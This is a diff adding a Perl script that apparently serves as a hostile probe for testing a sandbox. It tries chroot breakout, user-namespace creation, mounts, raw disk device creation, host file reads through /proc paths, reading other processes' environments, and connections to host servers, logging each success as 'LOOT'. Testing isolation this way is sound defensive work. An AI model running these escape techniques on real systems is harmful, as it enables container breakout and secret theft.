@@ -1,0 +1,84 @@
+# Code of a hostile ref: tries all ways out that it knows, and tells what it got as "LOOT: …".
+#   perl pry.pl SECRET-TEXT SECRET-FILE[,FILE…] WRITABLE[,PATH…] HOST:PORT[,…] ABSTRACT-SOCKET
+# The image has perl alone: no modules.
+my ($secret, $files, $writable, $servers, $socket) = @ARGV;
+my $arm = `busybox uname -m` =~ /aarch64|arm64/;
+my %number = $arm ? (unshare => 97, mknodat => 33) : (unshare => 272, mknodat => 259);
+$| = 1;
+
+sub loot { print STDERR "LOOT: @_\n" }
+
+sub holds {
+  my ($path, $what) = @_;
+  open my $file, '<', $path or return 0;
+  local $/;
+  my $content = <$file> // '';
+  return index($content, $what) >= 0;
+}
+
+# The classic way out of a chroot: a second one below leaves the working folder outside.
+if (!fork) {
+  mkdir '/jail';
+  if (chroot '/jail') {
+    loot 'chroot is allowed';
+    chdir '..' for 1 .. 64;
+    chroot '.';
+    for (split /,/, $files) { loot "$_ after a chroot" if holds($_, $secret) }
+  }
+  exit;
+}
+wait;
+
+# Rights of one's own: a user namespace, a mount, a device of the machine's disk.
+if (!fork) {
+  for my $flag (0x10000000, 0x10020000) {
+    loot 'a user namespace' if syscall($number{unshare}, $flag) == 0;
+  }
+  exit;
+}
+wait;
+loot 'a mount' if system('busybox mount -t tmpfs none /mnt 2>/dev/null') == 0;
+for my $major (8, 253, 254, 259) {
+  next if syscall($number{mknodat}, -100, "/disk$major", 0060600, $major << 8) != 0;
+  loot "a device of the disk, $major" if open my $disk, '<', "/disk$major";
+}
+
+sub inside {
+  my ($folder) = @_;
+  opendir my $open, $folder or return;
+  return map { "$folder/$_" } grep { !/^\.\.?$/ } readdir $open;
+}
+
+my @processes = grep { m{/\d+$} } inside('/proc');
+
+# Files of the machine: by name, through other processes, through whatever is open.
+my @roots = ('', '/proc/1/root', '/proc/1/cwd/../../../../../../..', '/proc/self/cwd/../../../../../..');
+for my $fd (map { inside("$_/fd") } @processes) { push @roots, "$fd/../../../../../../../.." }
+for my $root (@roots) {
+  for (split /,/, $files) { loot "$root$_" if holds("$root$_", $secret) }
+}
+for my $path (split /,/, $writable) {
+  loot "may write $path" if open my $file, '>>', $path;
+  loot "may make a file in $path" if -d $path && open my $file, '>', "$path/evil";
+  loot "may link $path" if link $path, '/linked';
+}
+
+# Environments and arguments of all processes that can be seen.
+for my $file (map { ("$_/environ", "$_/cmdline") } @processes) {
+  next if $file =~ m{/cmdline$} && $file =~ m{/$$/};
+  loot $file if holds($file, $secret);
+}
+
+# Servers of the machine.
+for (split /,/, $servers) {
+  my ($host, $port) = split /:/;
+  socket(my $to, 2, 1, 0) or next;
+  local $SIG{ALRM} = sub { };
+  alarm 2;
+  loot "$host:$port answers" if connect $to, pack('S n C4 x8', 2, $port, split /\./, $host);
+  alarm 0;
+}
+socket(my $local, 1, 1, 0);
+loot 'an abstract socket' if connect $local, pack('S a*', 1, "\0$socket");
+
+print STDERR "everything was tried\n";
